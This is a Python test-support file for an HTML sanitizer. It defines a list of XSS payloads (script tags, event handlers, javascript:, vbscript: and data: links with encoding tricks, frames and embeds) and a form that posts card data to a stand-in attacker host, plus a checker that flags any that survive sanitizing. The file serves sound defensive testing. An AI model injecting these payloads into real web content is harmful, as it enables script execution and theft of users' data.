"""Hostile rich text, as someone could write it through the models (the shell, a data migration, the
importer, a future API) — never through the editor, which strips all of it on the way in."""

from __future__ import annotations

from urllib.parse import urlsplit

from bs4 import BeautifulSoup, Comment

EVIL = "https://evil.example"

# (name, HTML) — each construct the issue names, plus the usual relatives.
CONSTRUCTS = [
    ("script", '<script>document.title = "xss-script"</script>'),
    ("onerror", '<p><img src="/none.png" onerror="alert(\'xss-onerror\')"> xss-img-text</p>'),
    ("javascript link", "<p><a href=\"javascript:alert('xss-js')\">js link</a></p>"),
    ("entity-encoded javascript", '<p><a href="&#106;avascript:alert(1)">entity link</a></p>'),
    ("tab in javascript", '<p><a href="jav&#x09;ascript:alert(1)">tab link</a></p>'),
    ("upper-case javascript", '<p><a href=" JAVASCRIPT:alert(1)">upper link</a></p>'),
    (
        "data link",
        '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>',
    ),
    ("vbscript link", '<p><a href="vbscript:msgbox(1)">vb link</a></p>'),
    ("iframe", f'<iframe src="{EVIL}/frame">xss-iframe-text</iframe>'),
    ("style", "<style>body { display: none !important } * { visibility: hidden }</style>"),
    ("base href", f'<base href="{EVIL}/">'),
    ("object", f'<object data="{EVIL}/x.swf"><param name="movie" value="{EVIL}/x.swf"></object>'),
    ("embed without embedtype", f'<embed src="{EVIL}/x.swf">'),
    (
        "form",
        f'<form action="{EVIL}/steal"><input name="card"><button>xss-button</button></form>',
    ),
    ("svg onload", '<svg onload="alert(\'xss-svg\')"><circle r="5"></circle></svg>'),
    (
        "event handler and style attribute",
        '<p onclick="alert(1)" style="position:fixed;inset:0;background:red">styled paragraph</p>',
    ),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("stylesheet link", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    ("comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
]

BEFORE = "Before the hostile parts."
AFTER = "After the hostile parts."
HOSTILE = f"<p>{BEFORE}</p>" + "".join(html for _name, html in CONSTRUCTS) + f"<p>{AFTER}</p>"

# Text that must never appear in the output: script bodies, style sheets, frame contents.
NEVER_IN_TEXT = ["xss-script", "display: none", "visibility", "xss-iframe-text"]
FORBIDDEN_ELEMENTS = [
    "script",
    "iframe",
    "style",
    "base",
    "object",
    "param",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "meta",
    "link",
    "img",
]
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}


def problems(fragment) -> list[str]:
    """What is wrong with a parsed HTML fragment (BeautifulSoup Tag) that shows rich text."""
    found = []
    for name in FORBIDDEN_ELEMENTS:
        found += [f"<{name}>" for _ in fragment.find_all(name)]
    for tag in fragment.find_all(True):
        for attr in tag.attrs:
            if attr.lower().startswith("on") or attr.lower() == "style":
                found.append(f"{tag.name}[{attr}]")
    for link in fragment.find_all("a", href=True):
        href = link["href"]
        cleaned = "".join(ch for ch in href if ch > " ").lower()
        if urlsplit(cleaned).scheme not in SAFE_SCHEMES:
            found.append(f"a[href={href!r}]")
    found += [
        "<!-- comment -->" for _ in fragment.find_all(string=lambda s: isinstance(s, Comment))
    ]
    text = fragment.get_text(" ")
    found += [f"text {t!r}" for t in NEVER_IN_TEXT if t in text]
    return found


def soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")
